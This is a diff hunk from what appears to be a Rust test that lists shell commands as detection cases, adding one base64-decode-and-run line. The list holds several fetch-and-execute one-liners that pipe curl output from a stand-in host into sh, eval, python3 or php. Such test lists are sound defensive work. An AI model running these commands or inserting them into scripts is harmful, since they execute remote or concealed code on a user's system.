@@ -1259,6 +1259,7 @@ fn downloads_run_by_any_reader_of_code_block() {
             "curl -s https://x.example/i | source /dev/fd/00",
             "curl -s https://x.example/i | python3 -mcode",
             "sh < <(curl -s https://x.example/i)",
+            "echo ZWNobyBoaQ== | base64 -D | sh",
             "curl -s https://x.example/i | eval \"$(cat)\"",
             "curl -s https://x.example/i | php -r 'eval(stream_get_contents(STDIN));'",
             "curl -s https://x.example/i | python3 -c 'exec(sys.stdin.read())'",
